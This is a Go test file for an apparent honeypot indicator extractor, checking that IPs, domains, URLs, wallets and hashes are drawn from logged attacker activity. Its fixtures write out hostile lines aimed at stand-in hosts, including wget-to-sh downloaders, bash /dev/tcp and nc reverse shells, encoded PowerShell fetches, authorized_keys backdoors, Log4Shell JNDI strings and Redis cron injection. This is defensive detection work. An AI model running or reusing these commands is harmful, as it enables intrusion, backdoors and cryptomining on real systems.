package rules

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"dossier/correlate/event"
	"dossier/testbed/race"
)

// shown returns the things that an event names, as "kind value", sorted, and what
// is to be passed on.
func shown(t *testing.T, ev event.Event) (things []string, forward string) {
	t.Helper()
	var a event.Arena
	builtin(t).Annotate(&a, &ev)
	for _, e := range ev.Evidence {
		switch e.Kind {
		case event.Indicator:
			things = append(things, e.A+" "+e.B)
		case event.Forward:
			forward = e.B + " " + e.A
		}
	}
	slices.Sort(things)
	return things, forward
}

// powershell is a text as powershell -enc takes it.
func powershell(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

const (
	monero  = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
	segwit  = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
	bitcoin = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
)

// What commands name is taken out of every form that they come in.
func TestThingsOfCommands(t *testing.T) {
	race.OneGoroutine(t)
	for line, want := range map[string]string{
		"cd /tmp; wget http://203.0.113.9/bins.sh; sh bins.sh":                                                                         "ip 203.0.113.9, url http://203.0.113.9/bins.sh",
		"wget -q -O- HTTP://Evil.Example:8080/A/b?c=d&e=f|sh":                                                                          "domain evil.example, url http://evil.example:8080/A/b?c=d&e=f",
		`curl -s "http://evil.example/a?c=d&e=f" -o /tmp/x`:                                                                            "domain evil.example, url http://evil.example/a?c=d&e=f",
		"curl -A 'x y' -o x 203.0.113.9/x; wget -O y evil.example/y":                                                                   "domain evil.example, ip 203.0.113.9, url http://203.0.113.9/x, url http://evil.example/y",
		"busybox tftp -g -l x -r mips 203.0.113.9; tftp 203.0.113.8 -c get arm":                                                        "ip 203.0.113.8, ip 203.0.113.9, url tftp://203.0.113.8/arm, url tftp://203.0.113.9/mips",
		"/bin/busybox ftpget -v -u anonymous -p x -P 21 203.0.113.9 a b":                                                               "ip 203.0.113.9, url ftp://203.0.113.9/b",
		"wget http://user:pw@203.0.113.9/x#y":                                                                                          "ip 203.0.113.9, url http://203.0.113.9/x",
		"for a in mips arm; do wget http://203.0.113.9/bins/$a; done":                                                                  "ip 203.0.113.9, url http://203.0.113.9/bins/",
		"u=http://203.0.113.9; curl $u/x":                                                                                              "ip 203.0.113.9, url http://203.0.113.9",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1":                                                                                    "ip 203.0.113.9",
		"nc -e /bin/sh evil.example 4444; socat exec:sh tcp:203.0.113.9:1":                                                             "domain evil.example, ip 203.0.113.9",
		"scp root@203.0.113.9:/x .":                                                                                                    "ip 203.0.113.9",
		"./xmrig -o pool.evil.example:3333 -u " + monero + ".w -p x":                                                                   "domain pool.evil.example, wallet " + monero,
		"echo " + base64.StdEncoding.EncodeToString([]byte("wget http://203.0.113.9/b64")) + " | base64 -d | sh":                       "ip 203.0.113.9, url http://203.0.113.9/b64",
		"powershell -enc " + powershell("(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/a.exe','b')"):                     "ip 203.0.113.9, url http://203.0.113.9/a.exe",
		"certutil -urlcache -f https://203.0.113.9/a.exe a.exe":                                                                        "ip 203.0.113.9, url https://203.0.113.9/a.exe",
		`echo "ssh-rsa ` + "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1" + ` mdrfckr">>.ssh/authorized_keys`: "key_comment mdrfckr",
		`echo "ssh-ed25519 ` + "AAAAC3NzaC1lZDI1NTE5AAAAIJ4cun2lhr4KUhBGE7VvAcwdli2a8dbnr" + ` Me@Evil.Example">>k`:                    "email me@evil.example, key_comment Me@Evil.Example",
		"wget [2001:db8::9]/x":           "ip 2001:db8::9, url http://[2001:db8::9]/x",
		"wget http://[2001:DB8::9]:81/x": "ip 2001:db8::9, url http://[2001:db8::9]:81/x",
		// What names nothing that anybody could meet, or is no use of it.
		"wget http://127.0.0.1/x http://localhost/y http://0.0.0.0/z": "",
		"cat /etc/passwd; ls ./a.b/c; cp a.sh b.sh; wget bins.sh":     "",
		"echo 1.2.3.4; echo a@b.example":                              "",
		"ssh-keygen -t rsa -C ssh-rsa":                                "",
	} {
		got, _ := shown(t, event.Event{Service: "ssh", Type: "command", Evidence: []event.Evidence{{Kind: event.Command, A: line}}})
		if text := strings.Join(got, ", "); text != want {
			t.Errorf("%s\n got %s\nwant %s", line, text, want)
		}
	}
}

// So is what other channels name: requests, databases, containers, notes.
func TestThingsOfOtherChannels(t *testing.T) {
	race.OneGoroutine(t)
	said := func(part, name, text string) event.Evidence {
		return event.Evidence{Kind: event.Said, A: text, B: part, C: name}
	}
	for name, c := range map[string]struct {
		service       string
		evidence      []event.Evidence
		want, forward string
	}{
		"a look-up in a header":  {"http", []event.Evidence{said("request", "GET", "/"), said("header", "X-Api", "${jndi:${lower:l}dap://203.0.113.9:1389/a}")}, "ip 203.0.113.9, url ldap://203.0.113.9:1389/a", ""},
		"a look-up in an agent":  {"http", []event.Evidence{{Kind: event.Fingerprint, A: "http_useragent", B: "${jndi:dns://x.evil.example}"}}, "domain x.evil.example, url dns://x.evil.example", ""},
		"a query":                {"http", []event.Evidence{said("request", "GET", "/a.php?f=http%3A%2F%2Fevil.example%2Fx.txt%3F")}, "domain evil.example, url http://evil.example/x.txt?", ""},
		"a command in a path":    {"http", []event.Evidence{said("request", "GET", "/cgi-bin/;wget+http://203.0.113.9/m;sh+m")}, "ip 203.0.113.9, url http://203.0.113.9/m", ""},
		"a body":                 {"http", []event.Evidence{said("request", "POST", "/x"), said("body", "", `{"cmd":"curl http://203.0.113.9/a.sh|sh"}`)}, "ip 203.0.113.9, url http://203.0.113.9/a.sh", ""},
		"markup":                 {"http", []event.Evidence{said("request", "POST", "/x"), said("body", "", `<s:Envelope xmlns:s="http://evil.example/ns" x="http://schemas.xmlsoap.org/soap">`)}, "", ""},
		"where it came from":     {"http", []event.Evidence{said("request", "GET", "/"), said("header", "Referer", "http://search.example/")}, "", ""},
		"a proxy's request":      {"http", []event.Evidence{said("request", "GET", "http://203.0.113.9/ip")}, "", "http_proxy 203.0.113.9:80"},
		"a proxy's connection":   {"http", []event.Evidence{said("request", "CONNECT", "Mail.Example:25")}, "", "http_proxy mail.example:25"},
		"a cron line in a value": {"redis", []event.Evidence{{Kind: event.Command, A: `SET x "\n*/2 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n"`}}, "ip 203.0.113.9, url http://203.0.113.9/i.sh", ""},
		"a master":               {"mysql", []event.Evidence{{Kind: event.Command, A: "COPY t FROM PROGRAM 'curl http://203.0.113.9/p|sh'"}}, "ip 203.0.113.9, url http://203.0.113.9/p", ""},
		"a note":                 {"mongodb", []event.Evidence{{Kind: event.Command, A: `insert README {"content": "Your data is backed up. Pay 0.01 BTC to ` + segwit + ` or ` + bitcoin + ` and write to Give@Back.Example"}`}}, "email give@back.example, wallet " + bitcoin + ", wallet " + segwit, ""},
		"no note":                {"mongodb", []event.Evidence{{Kind: event.Command, A: `insert users {"mail": "someone@victim.example"}`}}, "", ""},
		"a file and its source":  {"ssh", []event.Evidence{{Kind: event.Artifact, A: strings.Repeat("ab", 32), B: "HTTP://203.0.113.9/x", C: "file", Payload: []event.Field{{Key: "md5", Value: strings.Repeat("cd", 16)}}}}, "ip 203.0.113.9, md5 " + strings.Repeat("cd", 16) + ", sha256 " + strings.Repeat("ab", 32) + ", url http://203.0.113.9/x", ""},
		"a mail":                 {"smtp", []event.Evidence{{Kind: event.Artifact, A: strings.Repeat("ab", 32), C: "mail"}, {Kind: event.Recipient, A: "victim.example"}}, "", ""},
	} {
		got, forward := shown(t, event.Event{Service: c.service, Type: "request", Kind: event.Interaction, Evidence: c.evidence})
		if text := strings.Join(got, ", "); text != c.want || forward != c.forward {
			t.Errorf("%s:\n got %s; %s\nwant %s; %s", name, text, forward, c.want, c.forward)
		}
	}
	// What a decoy fetched.
	got, _ := shown(t, event.Event{Role: event.Contact, Evidence: []event.Evidence{
		{Kind: event.Fingerprint, A: "contact_url", B: "http://203.0.113.9/x"}, {Kind: event.Fingerprint, A: "contact_file", B: strings.Repeat("ab", 32)},
	}})
	if text := strings.Join(got, ", "); text != "ip 203.0.113.9, sha256 "+strings.Repeat("ab", 32)+", url http://203.0.113.9/x" {
		t.Errorf("a decoy's fetch: %s", text)
	}
}

// What a query calls a password, and whose name stands in it, isn't given away.
func TestThingsKeepSecrets(t *testing.T) {
	got, _ := shown(t, event.Event{Service: "ssh", Type: "command", Evidence: []event.Evidence{
		{Kind: event.Command, A: `curl "http://evil.example/?password=hunter2&mail=victim@acme.example"`},
	}})
	if text := strings.Join(got, ", "); strings.Contains(text, "hunter2") || strings.Contains(text, "victim") || !strings.Contains(text, "http://evil.example/?") {
		t.Error(text)
	}
}

// However much a command names, an event names so many things, and each text has
// its bound.
func TestThingsAreBounded(t *testing.T) {
	var b strings.Builder
	for i := range 90 {
		fmt.Fprintf(&b, "wget http://h%d.example/%s;", i, strings.Repeat("x", 1+i))
	}
	got, _ := shown(t, event.Event{Service: "ssh", Type: "command", Evidence: []event.Evidence{{Kind: event.Command, A: b.String()}}})
	if len(got) != maxThings {
		t.Errorf("%d things, want %d", len(got), maxThings)
	}
	got, _ = shown(t, event.Event{Service: "ssh", Type: "command", Evidence: []event.Evidence{{Kind: event.Command, A: "wget http://a.example/" + strings.Repeat("y", 3000)}}})
	for _, thing := range got {
		if len(thing) > maxURL+len("url ") {
			t.Errorf("%d bytes", len(thing))
		}
	}
}

// Who is told of what.
func TestUnpublished(t *testing.T) {
	empty := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	for _, c := range [][3]string{
		{"sha256", empty, WellKnown},
		{"sha256", strings.Repeat("ab", 32), ""},
		{"url", "http://203.0.113.9/x", ""},
		{"url", "http://deb.debian.org/x", BenignHost},
		{"domain", "ftp.debian.org", BenignHost},
		{"url", "https://github.com/xmrig/x.tar.gz", ""},
		{"domain", "github.com", SharedHost},
		{"domain", "raw.githubusercontent.com", SharedHost},
		{"ip", "8.8.8.8", BenignHost},
		{"ip", "10.0.0.9", Private},
		{"url", "http://router/x", Private},
		{"url", "http://nas.local:81/x", Private},
		{"ip", "100.64.1.1", Private},
		{"ip", "2001:db8::9", ""},
		{"email", "me@evil.example", ""},
		{"wallet", monero, ""},
		{"domain", "notgithub.com", ""},
		{"url", "http://[fe80::1]/x", Private},
		{"ip", "240.0.0.1", Reserved},
	} {
		if got := Unpublished(c[0], c[1]); got != c[2] {
			t.Errorf("%s %s: %q, want %q", c[0], c[1], got, c[2])
		}
	}
}

// Sums that wallets carry are checked.
func TestWallets(t *testing.T) {
	for _, w := range []string{monero, segwit, bitcoin, "bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr", "0x52908400098527886E0F7030069857D2E4169EE7", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"} {
		if !Wallet(w) {
			t.Errorf("%s is none", w)
		}
		last := byte('q')
		if w[len(w)-1] == last {
			last = 'p'
		}
		if changed := w[:len(w)-1] + string(last); Wallet(changed) && w != monero {
			t.Errorf("%s is one", changed)
		}
	}
	for _, w := range []string{"", "1", strings.Repeat("1", 34), monero[1:], "bc1" + strings.Repeat("q", 39), "0x52908400098527886E0F7030069857D2E4169EEz"} {
		if Wallet(w) {
			t.Errorf("%s is one", w)
		}
	}
}
